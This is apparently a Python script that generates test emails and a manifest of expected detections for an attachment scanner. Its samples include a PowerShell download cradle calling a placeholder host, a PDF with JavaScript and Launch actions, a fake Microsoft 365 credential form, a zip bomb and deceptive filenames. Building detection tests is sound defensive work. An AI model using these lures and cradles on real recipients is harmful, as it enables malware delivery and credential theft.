#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Generates test mails with attachments, and the checks they must pass.

Usage: gen_attachments.py OUTDIR

Writes OUTDIR/NAME.eml for every case below and OUTDIR/manifest.tsv, one
check per line:

    MAIL <TAB> FILE <TAB> CHECK <TAB> VALUE

FILE addresses a report: the attachment's file name, then " > " and the
name of an entry inside it, and so on ("-" for checks on the whole mail).
CHECK is one of: is_archive, encrypted, password, flag, noflag, yara,
noyara, mime, md5, sha1, sha256, sha512, size, files, defect, nodefect,
filtered, max_ms. Expected hashes come from Python's hashlib, an oracle
independent of the code under test.

The archives are made with zip, 7z, tar, gzip, bzip2 and xz; cabinet
files, ISO images, OLE2 documents and executables' headers are built
here byte by byte, since no free tool writes them. Nothing is committed:
the test runs this script into a temporary folder.
"""
import email.policy
import hashlib
import io
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from email.message import EmailMessage

OUT = None
MANIFEST = []
WORK = None

EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!"
         b"$H+H*")


def check(mail, path, what, value=""):
    MANIFEST.append("\t".join([mail, path, what, str(value)]))


def sha256(data):
    return hashlib.sha256(data).hexdigest()


def run(*args, cwd=None):
    subprocess.run(args, cwd=cwd, check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)


def mail(name, subject, body, attachments, html=None):
    """Writes NAME.eml with a text body and (filename, bytes, type)
    attachments."""
    msg = EmailMessage(policy=email.policy.SMTP)
    msg["From"] = "Accounts Payable <billing@invoices-example.net>"
    msg["To"] = "Jordan Reyes <jordan.reyes@example.org>"
    msg["Subject"] = subject
    msg["Date"] = "Tue, 04 Jun 2024 09:12:44 +0200"
    msg["Message-ID"] = "<%s.1717485164@invoices-example.net>" % name
    msg.set_content(body)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    for filename, data, ctype in attachments:
        maintype, subtype = ctype.split("/", 1)
        msg.add_attachment(data, maintype=maintype, subtype=subtype,
                           filename=filename)
    with open(os.path.join(OUT, name + ".eml"), "wb") as f:
        f.write(msg.as_bytes())


def tool_archive(kind, files, password=None, aes=False):
    """Builds an archive of (name, bytes) with the command-line tools and
    returns its bytes. kind: zip, 7z, tar, tar.gz."""
    d = tempfile.mkdtemp(dir=WORK)
    for name, data in files:
        p = os.path.join(d, name)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as f:
            f.write(data)
    names = [n for n, _ in files]
    out = os.path.join(WORK, "out." + kind)
    if os.path.exists(out):
        os.unlink(out)
    if kind == "zip" and aes:
        run("7z", "a", "-tzip", "-mem=AES256", "-p" + password, out, *names,
            cwd=d)
    elif kind == "zip":
        args = ["zip", "-q", "-X"]
        if password:
            args += ["-P", password]
        run(*args, out, *names, cwd=d)
    elif kind == "7z":
        args = ["7z", "a", "-t7z"]
        if password:
            args += ["-p" + password]
        run(*args, out, *names, cwd=d)
    elif kind == "tar":
        run("tar", "-cf", out, *names, cwd=d)
    elif kind == "tar.gz":
        run("tar", "-czf", out, *names, cwd=d)
    with open(out, "rb") as f:
        data = f.read()
    shutil.rmtree(d)
    return data


def compress(tool, data):
    """Compresses bytes with gzip, bzip2 or xz as a single stream."""
    return subprocess.run([tool, "-c"], input=data, check=True,
                          stdout=subprocess.PIPE).stdout


def cab_file(name, data):
    """A cabinet with one uncompressed folder holding one file."""
    name_b = name.encode() + b"\0"
    header_len, folder_len = 36, 8
    file_len = 16 + len(name_b)
    data_off = header_len + folder_len + file_len
    total = data_off + 8 + len(data)
    header = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, total, 0,
                         header_len + folder_len, 0, 3, 1, 1, 1, 0, 0x1234, 0)
    folder = struct.pack("<IHH", data_off, 1, 0)
    cffile = struct.pack("<IIHHHH", len(data), 0, 0, 0x58c4, 0x4a20,
                         0x20) + name_b
    cfdata = struct.pack("<IHH", 0, len(data), len(data)) + data
    return header + folder + cffile + cfdata


def both16(v):
    return struct.pack("<H", v) + struct.pack(">H", v)


def both32(v):
    return struct.pack("<I", v) + struct.pack(">I", v)


def iso_dir_record(ident, extent, size, is_dir):
    rec_len = 33 + len(ident) + (1 - len(ident) % 2)
    rec = bytes([rec_len, 0]) + both32(extent) + both32(size)
    rec += bytes([124, 6, 4, 9, 12, 44, 8])  # 2024-06-04 09:12:44 +02:00
    rec += bytes([2 if is_dir else 0, 0, 0]) + both16(1)
    rec += bytes([len(ident)]) + ident
    if len(ident) % 2 == 0:
        rec += b"\0"
    return rec


def iso_image(name, data):
    """A minimal ISO 9660 image with one file in the root directory."""
    sector = 2048
    n_data = (len(data) + sector - 1) // sector
    # libarchive reads 8 sectors past the system area before it bids, so
    # the image is padded to at least 32 sectors, as real ones are.
    total = max(21 + n_data, 32)
    root = iso_dir_record(b"\0", 20, sector, True)
    pvd = bytes([1]) + b"CD001" + bytes([1, 0])
    pvd += b"LINUX".ljust(32) + b"INVOICES".ljust(32) + bytes(8)
    pvd += both32(total) + bytes(32) + both16(1) + both16(1)
    pvd += both16(sector) + both32(10)
    pvd += struct.pack("<I", 18) + struct.pack("<I", 0)
    pvd += struct.pack(">I", 19) + struct.pack(">I", 0)
    pvd += root + b" " * (128 * 4 + 37 * 3)
    pvd += (b"2024060409124400" + bytes([8])) * 2 + (b"0" * 16 + b"\0") * 2
    pvd += bytes([1])
    pvd = pvd.ljust(sector, b"\0")
    term = (bytes([255]) + b"CD001" + bytes([1])).ljust(sector, b"\0")
    lpt = bytes([1, 0]) + struct.pack("<IH", 20, 1) + b"\0\0"
    mpt = bytes([1, 0]) + struct.pack(">IH", 20, 1) + b"\0\0"
    rootdir = (iso_dir_record(b"\0", 20, sector, True) +
               iso_dir_record(b"\1", 20, sector, True) +
               iso_dir_record(name.upper().encode() + b";1", 21, len(data),
                              False))
    img = bytes(16 * sector) + pvd + term
    img += lpt.ljust(sector, b"\0") + mpt.ljust(sector, b"\0")
    img += rootdir.ljust(sector, b"\0")
    img += data.ljust(n_data * sector, b"\0")
    return img.ljust(total * sector, b"\0")


def ole_file(storages):
    """An OLE2 compound file (512-byte sectors) whose root holds a chain
    of nested storages named in `storages`, the last one holding an empty
    stream: enough structure for a directory walk."""
    free, end, fatsect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD

    def entry(name, kind, child, size=0, start=end):
        n = (name + "\0").encode("utf-16-le")
        e = n.ljust(64, b"\0") + struct.pack("<HBB", len(n), kind, 1)
        e += struct.pack("<III", free, free, child) + bytes(16)
        e += struct.pack("<I", 0) + bytes(16)
        e += struct.pack("<IQ", start, size)
        return e.ljust(128, b"\0")

    names = storages
    entries = [entry("Root Entry", 5, 1)]
    for i, name in enumerate(names):
        last = i == len(names) - 1
        kind = 2 if last else 1
        entries.append(entry(name, kind, free if last else i + 2))
    dir_bytes = b"".join(entries)
    n_dir = (len(dir_bytes) + 511) // 512
    dir_bytes = dir_bytes.ljust(n_dir * 512, b"\0")
    fat = [fatsect] + [i + 2 for i in range(1, n_dir)] + [end]
    fat += [free] * (128 - len(fat))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108
    return header + struct.pack("<128I", *fat) + dir_bytes


def pe_file():
    """A small 32-bit Windows PE: MZ stub, PE header, one section."""
    mz = b"MZ" + bytes(58) + struct.pack("<I", 0x40)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0x66000000, 0, 0,
                                   0xE0, 0x0102)
    opt = bytearray(0xE0)
    struct.pack_into("<H", opt, 0, 0x10B)
    struct.pack_into("<I", opt, 16, 0x1000)      # entry point
    struct.pack_into("<I", opt, 28, 0x400000)    # image base
    struct.pack_into("<II", opt, 32, 0x1000, 0x200)
    struct.pack_into("<H", opt, 40, 4)           # OS version
    struct.pack_into("<H", opt, 48, 4)           # subsystem version
    struct.pack_into("<I", opt, 56, 0x2000)      # size of image
    struct.pack_into("<I", opt, 60, 0x200)       # size of headers
    struct.pack_into("<H", opt, 68, 2)           # GUI
    struct.pack_into("<I", opt, 92, 16)          # data directories
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 0x10, 0x1000, 0x200,
                                            0x200, 0, 0, 0, 0, 0x60000020)
    head = (mz + coff + bytes(opt) + section).ljust(0x200, b"\0")
    return head + (b"\xc3" + bytes(0x1FF))


def elf_file():
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    hdr = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0,
                              0, 64, 56, 0, 64, 0, 0)
    return hdr + bytes(64)


def macho_file():
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + \
        bytes(4) + bytes(96)


def lnk_file():
    head = bytes([0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0,
                  0, 0, 0, 0, 0x46])
    return head + bytes(56) + "C:\\Windows\\System32\\cmd.exe".encode(
        "utf-16-le")


PDF_CLEAN = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj
trailer << /Root 1 0 R >>
%%EOF
"""

PDF_ACTIVE = b"""%PDF-1.5
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R
  /Names << /EmbeddedFiles << /Names [(payload.exe) 6 0 R] >> >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /AA << /O 5 0 R >> >> endobj
4 0 obj << /S /JavaScript /JS (app.alert('Invoice');) >> endobj
5 0 obj << /S /Launch /F (cmd.exe) >> endobj
6 0 obj << /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >> endobj
7 0 obj << /Type /EmbeddedFile /Length 2 >> stream
MZ
endstream endobj
trailer << /Root 1 0 R >>
%%EOF
"""

PDF_OBFUSCATED = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /Op#65nAction 3 0 R >> endobj
2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
3 0 obj << /S /J#61va#53cript /J#53 (this.exportDataObject({cName:'a'})) >> endobj
trailer << /Root 1 0 R >>
%%EOF
"""

HTML_PHISH = b"""<!DOCTYPE html>
<html><head><title>Microsoft 365 - Sign in</title>
<script>document.addEventListener('DOMContentLoaded',function(){
document.getElementById('e').value=atob('am9yZGFuQGV4YW1wbGUub3Jn');});</script>
</head><body>
<form method="post" action="https://login-verify.example.net/owa/auth.php">
<input id="e" name="login" type="email">
<input name="passwd" type="password" placeholder="Password">
<button type="submit">Sign in</button>
</form></body></html>
"""

PS1_CRADLE = (b"$u='http://203.0.113.7/stage2.ps1'\r\n"
              b"powershell -nop -w hidden -c \"IEX (New-Object "
              b"Net.WebClient).DownloadString($u)\"\r\n")

JPEG = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00"
        b"\x00" + bytes(range(256)) * 4 + b"\xff\xd9")

BODY = ("Hello Jordan,\n\nplease find attached the documents for "
        "order 88213.\n\nKind regards,\nAccounts Payable\n")


def text_file(seed, n=4000):
    words = ["invoice", "order", "amount", "due", "payment", "account",
             "reference", "total", "shipping", "customer"]
    out = []
    i = seed
    while sum(len(w) + 1 for w in out) < n:
        i = (i * 1103515245 + 12345) % (1 << 31)
        out.append(words[i % len(words)])
    return (" ".join(out) + "\n").encode()


def archives():
    readme = text_file(1)
    csv = b"id,amount\n" + b"".join(b"%d,%d.00\n" % (i, i * 7)
                                    for i in range(200))
    z = tool_archive("zip", [("readme.txt", readme), ("report.pdf",
                                                        PDF_CLEAN)])
    mail("archive_zip", "Documents for order 88213", BODY,
         [("documents.zip", z, "application/zip")])
    m, a = "archive_zip.eml", "documents.zip"
    check(m, a, "is_archive", "true")
    check(m, a, "files", 2)
    check(m, a, "sha256", sha256(z))
    check(m, a, "md5", hashlib.md5(z).hexdigest())
    check(m, a, "sha1", hashlib.sha1(z).hexdigest())
    check(m, a, "sha512", hashlib.sha512(z).hexdigest())
    check(m, a, "size", len(z))
    check(m, a, "mime", "application/zip")
    check(m, a + " > readme.txt", "sha256", sha256(readme))
    check(m, a + " > readme.txt", "mime", "text/plain")
    check(m, a + " > report.pdf", "mime", "application/pdf")
    check(m, a + " > report.pdf", "noflag", "pdf_javascript")
    check(m, a, "noflag", "encrypted_archive")

    s = tool_archive("7z", [("notes.txt", readme), ("data.csv", csv)])
    mail("archive_7z", "Quarterly data", BODY,
         [("bundle.7z", s, "application/x-7z-compressed")])
    check("archive_7z.eml", "bundle.7z", "files", 2)
    check("archive_7z.eml", "bundle.7z > data.csv", "sha256", sha256(csv))
    check("archive_7z.eml", "bundle.7z", "mime",
          "application/x-7z-compressed")

    t = tool_archive("tar.gz", [("a.txt", readme), ("b.csv", csv)])
    mail("archive_targz", "Logs", BODY,
         [("logs.tar.gz", t, "application/gzip")])
    check("archive_targz.eml", "logs.tar.gz", "files", 2)
    check("archive_targz.eml", "logs.tar.gz > b.csv", "sha256", sha256(csv))

    t = tool_archive("tar", [("a.txt", readme)])
    mail("archive_tar", "Logs", BODY, [("logs.tar", t, "application/x-tar")])
    check("archive_tar.eml", "logs.tar", "is_archive", "true")
    check("archive_tar.eml", "logs.tar > a.txt", "sha256", sha256(readme))

    for tool, ext, ctype in (("gzip", "gz", "application/gzip"),
                             ("bzip2", "bz2", "application/x-bzip2"),
                             ("xz", "xz", "application/x-xz")):
        c = compress(tool, csv)
        name = "archive_" + tool
        mail(name, "Export", BODY, [("export.csv." + ext, c, ctype)])
        check(name + ".eml", "export.csv." + ext, "is_archive", "true")
        check(name + ".eml", "export.csv." + ext, "files", 1)
        check(name + ".eml", "export.csv." + ext + " > export.csv", "sha256",
              sha256(csv))

    cab = cab_file("setup.txt", readme)
    mail("archive_cab", "Setup files", BODY,
         [("setup.cab", cab, "application/vnd.ms-cab-compressed")])
    check("archive_cab.eml", "setup.cab", "is_archive", "true")
    check("archive_cab.eml", "setup.cab > setup.txt", "sha256",
          sha256(readme))

    iso = iso_image("readme.txt", PS1_CRADLE)
    mail("archive_iso", "Your delivery documents", BODY,
         [("delivery.iso", iso, "application/octet-stream")])
    check("archive_iso.eml", "delivery.iso", "is_archive", "true")
    check("archive_iso.eml", "delivery.iso", "flag", "disk_image")
    check("archive_iso.eml", "delivery.iso", "files", 1)
    check("archive_iso.eml", "delivery.iso > README.TXT", "sha256",
          sha256(PS1_CRADLE))
    check("archive_iso.eml", "delivery.iso > README.TXT", "yara",
          "PowerShell_Download_Cradle")


def nested():
    deep = text_file(7)
    inner = tool_archive("tar.gz", [("deep.txt", deep)])
    middle = tool_archive("7z", [("inner.tar.gz", inner)])
    outer = tool_archive("zip", [("middle.7z", middle),
                                 ("eicar.com", EICAR)])
    mail("nested", "Nested archives", BODY,
         [("outer.zip", outer, "application/zip")])
    p = "outer.zip > middle.7z > inner.tar.gz > deep.txt"
    check("nested.eml", p, "sha256", sha256(deep))
    check("nested.eml", "outer.zip > middle.7z > inner.tar.gz", "files", 1)
    check("nested.eml", "outer.zip > eicar.com", "yara", "EICAR_Test_File")
    check("nested.eml", "-", "nodefect", "limit_archive_depth")

    data = b"the innermost file\n"
    name = "level7.txt"
    for level in range(7, 0, -1):
        data = tool_archive("zip", [(name, data)])
        name = "level%d.zip" % level
    mail("nested_too_deep", "Nested archives", BODY,
         [(name, data, "application/zip")])
    check("nested_too_deep.eml", "-", "defect", "limit_archive_depth")
    check("nested_too_deep.eml",
          " > ".join("level%d.zip" % i for i in range(1, 7)), "files", 0)


def encrypted():
    secret = text_file(11)
    z = tool_archive("zip", [("Invoice_88213.txt", secret)],
                     password="Inv-4471")
    mail("encrypted_zip", "Invoice 88213",
         "Hello Jordan,\n\nthe invoice is attached as a protected archive.\n"
         "The password is: Inv-4471\n\nRegards\n",
         [("Invoice_88213.zip", z, "application/zip")])
    m, a = "encrypted_zip.eml", "Invoice_88213.zip"
    check(m, a, "encrypted", "true")
    check(m, a, "password", "Inv-4471")
    check(m, a, "flag", "encrypted_archive")
    check(m, a + " > Invoice_88213.txt", "sha256", sha256(secret))

    z = tool_archive("zip", [("Rechnung.txt", secret)], password="geheim-77",
                     aes=True)
    mail("encrypted_zip_aes", "Rechnung 2024-0611",
         "Guten Tag,\n\nanbei die Rechnung. Passwort: \"geheim-77\"\n",
         [("Rechnung.zip", z, "application/zip")])
    check("encrypted_zip_aes.eml", "Rechnung.zip", "password", "geheim-77")
    check("encrypted_zip_aes.eml", "Rechnung.zip > Rechnung.txt", "sha256",
          sha256(secret))

    z = tool_archive("zip", [("scan.txt", secret)], password="n0t-in-mail")
    mail("encrypted_zip_nopass", "Scan", "See the attached scan.\n",
         [("scan.zip", z, "application/zip")])
    check("encrypted_zip_nopass.eml", "scan.zip", "encrypted", "true")
    check("encrypted_zip_nopass.eml", "scan.zip", "flag", "encrypted_archive")
    check("encrypted_zip_nopass.eml", "scan.zip", "password", "")
    check("encrypted_zip_nopass.eml", "scan.zip > scan.txt", "flag",
          "encrypted_archive")


def bomb():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED,
                         compresslevel=9) as zf:
        with zf.open("zeros.bin", "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(512):
                f.write(chunk)
    z = buf.getvalue()
    mail("zip_bomb", "Report", BODY, [("report.zip", z, "application/zip")])
    check("zip_bomb.eml", "-", "defect", "limit_archive_ratio")
    check("zip_bomb.eml", "-", "max_ms", 3000)
    check("zip_bomb.eml", "report.zip", "files", 0)


def eicar():
    z = tool_archive("zip", [("eicar.com", EICAR)])
    mail("eicar_zip", "Test", BODY, [("eicar.zip", z, "application/zip")])
    check("eicar_zip.eml", "eicar.zip > eicar.com", "yara", "EICAR_Test_File")
    check("eicar_zip.eml", "eicar.zip", "noyara", "EICAR_Test_File")


def macros():
    doc = ole_file(["Macros", "VBA", "_VBA_PROJECT"])
    mail("macro_ole", "Invoice", BODY,
         [("invoice.doc", doc, "application/msword")])
    check("macro_ole.eml", "invoice.doc", "flag", "office_macro")
    check("macro_ole.eml", "invoice.doc", "is_archive", "false")

    doc = ole_file(["WordDocument"])
    mail("ole_clean", "Minutes", BODY,
         [("minutes.doc", doc, "application/msword")])
    check("ole_clean.eml", "minutes.doc", "noflag", "office_macro")

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml",
                    '<?xml version="1.0"?><Types xmlns="http://schemas.'
                    'openxmlformats.org/package/2006/content-types"/>')
        zf.writestr("word/document.xml", "<w:document/>")
        zf.writestr("word/vbaProject.bin",
                    ole_file(["VBA", "_VBA_PROJECT"]) +
                    b"Attribute VB_Name = \"ThisDocument\"\r\n"
                    b"Sub AutoOpen()\r\nEnd Sub\r\n")
    docm = buf.getvalue()
    mail("macro_ooxml", "Order form", BODY,
         [("order.docm", docm,
           "application/vnd.ms-word.document.macroEnabled.12")])
    check("macro_ooxml.eml", "order.docm", "flag", "office_macro")
    check("macro_ooxml.eml", "order.docm", "is_archive", "false")


def programs():
    pe = pe_file()
    mail("pe_as_pdf", "Invoice", BODY,
         [("invoice.pdf", pe, "application/pdf")])
    check("pe_as_pdf.eml", "invoice.pdf", "flag", "executable")
    check("pe_as_pdf.eml", "invoice.pdf", "flag", "type_mismatch")
    check("pe_as_pdf.eml", "invoice.pdf", "yara", "PE_File")

    mail("double_extension", "Invoice", BODY,
         [("invoice.pdf.exe", pe, "application/octet-stream")])
    check("double_extension.eml", "invoice.pdf.exe", "flag",
          "double_extension")
    check("double_extension.eml", "invoice.pdf.exe", "flag", "executable")
    check("double_extension.eml", "invoice.pdf.exe", "noflag",
          "type_mismatch")

    rtlo = "Invoice_2024\u202efdp.exe"
    mail("rtl_override", "Invoice", BODY,
         [(rtlo, pe, "application/octet-stream")])
    check("rtl_override.eml", rtlo, "flag", "rtl_override")

    spaced = "statement.pdf" + " " * 40 + ".scr"
    mail("space_padding", "Statement", BODY,
         [(spaced, pe, "application/octet-stream")])
    check("space_padding.eml", spaced, "flag", "space_padding_name")
    check("space_padding.eml", spaced, "flag", "double_extension")

    mail("elf_macho", "Update", BODY,
         [("update", elf_file(), "application/octet-stream"),
          ("installer", macho_file(), "application/octet-stream")])
    check("elf_macho.eml", "update", "flag", "executable")
    check("elf_macho.eml", "installer", "flag", "executable")

    mail("scripts", "Documents", BODY,
         [("open.js", b"var s=new ActiveXObject('WScript.Shell');\n",
           "application/javascript"),
          ("open.vbs", b"CreateObject(\"WScript.Shell\").Run \"calc\"\n",
           "text/plain"),
          ("update.ps1", PS1_CRADLE, "text/plain"),
          ("run.bat", b"@echo off\r\nstart calc.exe\r\n", "text/plain"),
          ("viewer.hta", b"<html><script>alert(1)</script></html>\n",
           "application/hta"),
          ("Invoice.lnk", lnk_file(), "application/octet-stream")])
    for name in ("open.js", "open.vbs", "update.ps1", "run.bat", "viewer.hta"):
        check("scripts.eml", name, "flag", "script")
    check("scripts.eml", "update.ps1", "yara", "PowerShell_Download_Cradle")
    check("scripts.eml", "Invoice.lnk", "flag", "shortcut")


def documents():
    mail("pdf_active", "Statement", BODY,
         [("statement.pdf", PDF_ACTIVE, "application/pdf")])
    for flag in ("pdf_javascript", "pdf_open_action", "pdf_launch",
                 "pdf_embedded_file", "pdf_auto_action"):
        check("pdf_active.eml", "statement.pdf", "flag", flag)
    check("pdf_active.eml", "statement.pdf", "mime", "application/pdf")

    mail("pdf_obfuscated", "Statement", BODY,
         [("statement.pdf", PDF_OBFUSCATED, "application/pdf")])
    check("pdf_obfuscated.eml", "statement.pdf", "flag", "pdf_javascript")
    check("pdf_obfuscated.eml", "statement.pdf", "flag", "pdf_open_action")

    mail("html_form", "Voicemail received", BODY,
         [("Voicemail_0604.html", HTML_PHISH, "text/html")])
    check("html_form.eml", "Voicemail_0604.html", "flag", "html_form")
    check("html_form.eml", "Voicemail_0604.html", "flag", "html_script")
    check("html_form.eml", "Voicemail_0604.html", "yara",
          "HTML_Credential_Form")

    mail("clean", "Holiday photo", "Here is the photo from Saturday.\n",
         [("photo.jpg", JPEG, "image/jpeg"),
          ("notes.txt", text_file(3), "text/plain")])
    check("clean.eml", "photo.jpg", "mime", "image/jpeg")
    check("clean.eml", "photo.jpg", "flags", 0)
    check("clean.eml", "notes.txt", "flags", 0)
    check("clean.eml", "photo.jpg", "is_archive", "false")


def main():
    global OUT, WORK
    if len(sys.argv) != 2:
        sys.exit("usage: gen_attachments.py OUTDIR")
    OUT = sys.argv[1]
    os.makedirs(OUT, exist_ok=True)
    WORK = tempfile.mkdtemp()
    try:
        archives()
        nested()
        encrypted()
        bomb()
        eicar()
        macros()
        programs()
        documents()
    finally:
        shutil.rmtree(WORK)
    with open(os.path.join(OUT, "manifest.tsv"), "w") as f:
        f.write("\n".join(MANIFEST) + "\n")


if __name__ == "__main__":
    main()
